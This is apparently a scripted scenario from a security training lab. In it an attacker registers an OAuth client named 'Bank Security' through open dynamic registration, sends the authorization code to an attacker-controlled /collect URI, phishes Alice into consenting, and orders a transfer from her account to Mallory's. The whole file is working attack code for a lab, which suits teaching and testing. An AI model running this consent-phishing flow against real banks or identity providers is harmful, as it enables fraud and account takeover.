"""A stranger's app calls itself “Bank Security”, and asks for everything."""

from typing import Any

from labs.stage import Stage, Stuck
from labs.steps import step

METADATA: dict[str, Any] = {"scope": "balance:read transfers:write", "token_endpoint_auth_method": "none"}
ORDER = {"from_account": "alice-current", "to_account": "mallory-current", "amount": 100, "reference": "Safety check"}


@step("attacker")
def registers_under_a_good_name(stage: Stage) -> None:
    """Register an app as “Bank Security”, for transfers; where that is refused, under a name of its own."""
    redirect_uri = f"{stage.here.attacker}/collect"
    # Registration is open to everybody, so each word of this is the stranger's own, but for the redirect URI.
    for name in ("Bank Security", "Recipes"):
        metadata = METADATA | {"client_name": name, "redirect_uris": [redirect_uri]}
        answer = stage.attacker.ask("POST", f"{stage.here.auth}/register", json=metadata)
        if answer.status_code == 201:
            stage.kept["client_id"] = answer.json()["client_id"]
            stage.onward = stage.link(stage.kept["client_id"], redirect_uri, scope="transfers:write")
            return
    raise Stuck("Bank ID registers no client")


@step("Alice")
def alice_follows_the_mail(stage: Stage) -> None:
    """Open the link of a mail about her safety: sign in as alice, at the real Bank ID, and allow."""
    stage.lead_alice().agree()


@step("attacker")
def moves_money(stage: Stage) -> None:
    """Redeem the code, and order a transfer from Alice's account to Mallory's."""
    token = stage.redeem_newest(stage.kept["client_id"], f"{stage.here.attacker}/collect")
    # The bank makes a transfer once for each key: a new one for each attack.
    name = {"Idempotency-Key": stage.kept["verifier"]}
    stage.attacker.bank("POST", "/transfers", token, json=ORDER, headers=name)
